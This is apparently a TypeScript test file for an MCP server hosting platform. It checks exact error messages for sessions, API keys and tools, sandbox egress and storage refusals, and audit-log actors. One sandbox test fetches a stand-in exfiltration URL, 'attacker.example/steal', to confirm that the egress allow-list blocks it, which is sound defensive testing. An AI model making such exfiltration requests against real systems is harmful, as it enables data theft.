/**
 * Every error a client shows says what happened and what to do next (README, "Errors
 * and what to do"): the exact texts, so a change of wording is a change of this file.
 * Also: the sandbox's capabilities answer refusals as values, so the runtime's log holds
 * no uncaught-exception stack for an ordinary failure; and audit rows name who acted.
 */
import { exports } from "cloudflare:workers";
import { SELF } from "cloudflare:test";
import { beforeAll, describe, expect, it } from "vitest";
import { ORIGIN, adminOk, rememberIncarnation, expectRpcError, initializeParams, mcpFetch, callTool, mcpUrl, openSession, provisionTenant, responseMessage, rpc, send, statelessFetch, type Tenant } from "./helpers";
import { postForm, tokensFor } from "./oauth-helpers";

let t: Tenant;

beforeAll(async () => {
  t = await provisionTenant({ prefix: "err", servers: ["notes", "everything"] });
});

const keyHelp = (tenant: string) =>
  `A tenant API key is smcp_sk_ and 43 characters (A-Z a-z 0-9 - _), shown once when it is created: POST /admin/v1/tenants/${tenant}/keys or npx pnpm@10 smcp keys create ${tenant}`;

async function initializeWith(url: string, authorization: string | null): Promise<Response> {
  return SELF.fetch(url, {
    method: "POST",
    headers: {
      ...(authorization === null ? {} : { Authorization: authorization }),
      "Content-Type": "application/json",
      Accept: "application/json, text/event-stream",
    },
    body: JSON.stringify(rpc("initialize", initializeParams("2025-11-25"))),
  });
}

describe("the session lane", () => {
  it("session:404 platform:error-messages — an unknown session says it expired, ended or never existed, and to initialize without Mcp-Session-Id", async () => {
    const expected =
      "Session not found: it expired, was ended, or never existed. Start a new session: send initialize without an Mcp-Session-Id header";
    const url = mcpUrl(t.tenant, "notes");
    // Well-formed but unknown (reaches a session object), malformed (refused in the Worker), and ended by DELETE.
    const ended = await openSession(url, t.key);
    expect((await mcpFetch(url, { method: "DELETE", key: t.key, sessionId: ended.sessionId, protocolVersion: "2025-11-25" })).status).toBe(200);
    for (const sessionId of ["A".repeat(32), "not-a-session", ended.sessionId]) {
      const res = await mcpFetch(url, { key: t.key, sessionId, protocolVersion: "2025-11-25", body: rpc("tools/list") });
      const error = await expectRpcError(res, 404, -32001);
      expect(error.message, sessionId).toBe(expected);
    }
  });
});

describe("keys", () => {
  it("auth:401 platform:error-messages — a missing, mistyped or unknown key is reported as a key problem, with the key's shape and where to get one", async () => {
    const url = mcpUrl(t.tenant, "notes");
    const cases: [string | null, string][] = [
      [null, `Missing API key: send Authorization: Bearer <key>. ${keyHelp(t.tenant)}`],
      // One character short, a wrong character, and the random part without its prefix.
      [`Bearer ${t.key!.slice(0, -1)}`, `Malformed API key: this is not the shape of a tenant API key (a character missing, extra or wrong?). ${keyHelp(t.tenant)}`],
      [`Bearer ${t.key!.slice(0, -1)}!`, `Malformed API key: this is not the shape of a tenant API key (a character missing, extra or wrong?). ${keyHelp(t.tenant)}`],
      [`Bearer ${t.key!.slice("smcp_sk_".length)}`, `Malformed API key: this is not the shape of a tenant API key (a character missing, extra or wrong?). ${keyHelp(t.tenant)}`],
      [`Bearer smcp_sk_${"A".repeat(43)}`, `Invalid or revoked API key: tenant ${t.tenant} has no live key with this value. ${keyHelp(t.tenant)}`],
    ];
    for (const [authorization, message] of cases) {
      const res = await initializeWith(url, authorization);
      expect(res.headers.get("www-authenticate"), String(authorization)).toBe(`Bearer resource_metadata="${ORIGIN}/.well-known/oauth-protected-resource/mcp/${t.tenant}/notes"`);
      expect((await expectRpcError(res, 401)).message, String(authorization)).toBe(message);
    }
    // A bearer shaped as an access token is still an OAuth matter: invalid_token, which sends a client to refresh.
    const token = await initializeWith(url, `Bearer smcp_at_${t.tenant}.${"A".repeat(43)}`);
    expect(token.headers.get("www-authenticate")).toMatch(/^Bearer error="invalid_token"/);
  });
});

describe("tools", () => {
  const unknownTool = "Tool no_such_tool not found: call tools/list for the tools this server has";

  it("input:invalid-params platform:error-messages — an unknown tool of a built-in server is -32602 pointing at tools/list, on both lanes", async () => {
    for (const server of ["notes", "everything"]) {
      const session = await openSession(mcpUrl(t.tenant, server), t.key);
      const message = await responseMessage(await send(session, rpc("tools/call", { name: "no_such_tool", arguments: {} })));
      expect(message.error, server).toEqual({ code: -32602, message: unknownTool });
    }
    const stateless = await responseMessage(await statelessFetch(mcpUrl(t.tenant, "notes"), t.key, "tools/call", { name: "no_such_tool", arguments: {} }));
    expect(stateless.error).toEqual({ code: -32602, message: unknownTool });
    // A name that is a property of every object is no tool either.
    const session = await openSession(mcpUrl(t.tenant, "notes"), t.key);
    const inherited = await responseMessage(await send(session, rpc("tools/call", { name: "constructor", arguments: {} })));
    expect(inherited.error).toEqual({ code: -32602, message: "Tool constructor not found: call tools/list for the tools this server has" });
  });

  it("input:invalid-params — arguments that fail a built-in tool's schema are -32602 (not an isError result), on both lanes, and nothing is stored", async () => {
    const url = mcpUrl(t.tenant, "notes");
    const session = await openSession(url, t.key);
    const expected = {
      code: -32602,
      message:
        "Input validation error: Invalid arguments for tool add_note: title: Invalid input: expected string, received number, body: Invalid input: expected string, received undefined; see the tool's inputSchema in tools/list",
    };
    expect((await responseMessage(await send(session, rpc("tools/call", { name: "add_note", arguments: { title: 42 } })))).error).toEqual(expected);
    expect((await responseMessage(await statelessFetch(url, t.key, "tools/call", { name: "add_note", arguments: { title: 42 } }))).error).toEqual(expected);
    const tooBig = await responseMessage(await send(session, rpc("tools/call", { name: "list_notes", arguments: { limit: 501 } })));
    expect(tooBig.error).toEqual({
      code: -32602,
      message: "Input validation error: Invalid arguments for tool list_notes: limit: Too big: expected number to be <=500; see the tool's inputSchema in tools/list",
    });
    // Valid arguments still reach the tool, and the bad calls stored nothing.
    expect((await callTool(session, "list_notes")).structuredContent).toEqual({ notes: [] });
  });

  it("input:invalid-params platform:error-messages — an unknown tool of a deployed server is -32602 pointing at tools/list", async () => {
    const source = `export default { tools: [{ name: "hello", description: "hi", inputSchema: { type: "object" }, async handler() { return "hi"; } }] };`;
    const res = await SELF.fetch(`${ORIGIN}/admin/v1/tenants/${t.tenant}/servers/hello/deployments`, {
      method: "PUT",
      headers: { Authorization: "Bearer test-admin-token", "Content-Type": "application/javascript" },
      body: source,
    });
    expect(res.status, await res.clone().text()).toBe(201);
    const session = await openSession(mcpUrl(t.tenant, "hello"), t.key);
    const message = await responseMessage(await send(session, rpc("tools/call", { name: "no_such_tool", arguments: {} })));
    expect(message.error).toEqual({ code: -32602, message: unknownTool });
  });
});

describe("the sandbox's capabilities answer, never throw across RPC", () => {
  type Loopback = (options: { props: unknown }) => any;
  const loopbacks = exports as unknown as { SandboxEgress: Loopback; SandboxStore: Loopback };

  // An allowed host that cannot be reached is shown end to end (test/e2e/sandbox.test.ts): here
  // the runtime logs a failed DNS lookup as an internal error whatever the caller does with it.
  it("deployed:sandbox platform:clean-log — a refused egress is a marked 403 Response with the host and the allow-list call, not a rejection", async () => {
    const egress = loopbacks.SandboxEgress({ props: { tenant: t.tenant, server: "svc", allow: [] } });
    const res: Response = await egress.fetch("https://attacker.example/steal");
    expect(res.status).toBe(403);
    expect(res.headers.get("x-smcp-egress-refused")).toBe("1");
    expect(await res.text()).toBe(
      `SMCP egress: https://attacker.example is not on the allow-list of server svc, which allows no host yet; to allow it: PUT /admin/v1/tenants/${t.tenant}/servers/svc/egress {"allow":["attacker.example"]}`,
    );
  });

  it("deployed:sandbox platform:clean-log — a refused store call is an {ok:false, error} answer, not a rejection", async () => {
    const store = loopbacks.SandboxStore({ props: { tenant: t.tenant, incarnation: await rememberIncarnation(t.tenant), server: "svc" } });
    expect(await store.get({ tenant: "x" }, "secrets")).toEqual({ ok: false, error: "collection must be a non-empty string of at most 100 characters" });
    expect(await store.put("c", "id", 1)).toEqual({ ok: true, value: null });
    expect(await store.get("c", "id")).toMatchObject({ ok: true, value: { id: "id", value: 1 } });
  });
});

describe("audit actors", () => {
  const endedBy = async (tenant: string, sessionId: string) => {
    const { entries } = await adminOk<{ entries: { actor: string; action: string; target: string; detail: unknown }[] }>("GET", `/tenants/${tenant}/audit`);
    return entries.filter((e) => e.action === "session.ended" && e.target === sessionId).map((e) => ({ actor: e.actor, detail: e.detail }));
  };

  it("admin:audit platform:audit-actors — a session ended by a client revoking its token is audited as that client, not as an admin", async () => {
    const o = await provisionTenant({ prefix: "erra", servers: ["notes"] });
    const tokens = await tokensFor(o, "notes");
    const session = await openSession(mcpUrl(o.tenant, "notes"), tokens.access_token);
    expect((await postForm("/revoke", new URLSearchParams({ token: tokens.refresh_token, client_id: tokens.client.client_id }))).status).toBe(200);
    const [ended] = await endedBy(o.tenant, session.sessionId);
    expect(ended!.actor).toBe(`client:${tokens.client.client_id}`);
    expect(ended!.detail).toMatchObject({ reason: "terminated", cause: expect.stringMatching(/^grant \S+ revoked: revoked by the client$/) });
    const { entries } = await adminOk<{ entries: { actor: string; action: string }[] }>("GET", `/tenants/${o.tenant}/audit`);
    expect(entries.filter((e) => e.action === "oauth.revoked").map((e) => e.actor)).toEqual([`client:${tokens.client.client_id}`]);
    // The session was opened by the client's grant, not by the key that approved it.
    expect(entries.find((e) => e.action === "session.created")!.actor).toMatch(/^grant:/);
  });

  it("admin:audit platform:audit-actors — a session ended by revoking its key names the key in the cause; an admin's terminate is the admin's", async () => {
    const o = await provisionTenant({ prefix: "errk", servers: ["notes"] });
    const session = await openSession(mcpUrl(o.tenant, "notes"), o.key);
    await adminOk("DELETE", `/tenants/${o.tenant}/keys/${o.keyId}`);
    expect(await endedBy(o.tenant, session.sessionId)).toEqual([{ actor: "admin", detail: { reason: "terminated", cause: `key ${o.keyId} revoked` } }]);

    const { key } = await adminOk<{ key: string }>("POST", `/tenants/${o.tenant}/keys`, { label: "second" }, 201);
    const second = await openSession(mcpUrl(o.tenant, "notes"), key);
    await adminOk("DELETE", `/tenants/${o.tenant}/sessions/${second.sessionId}`);
    expect(await endedBy(o.tenant, second.sessionId)).toEqual([{ actor: "admin", detail: { reason: "terminated" } }]);
  });
});
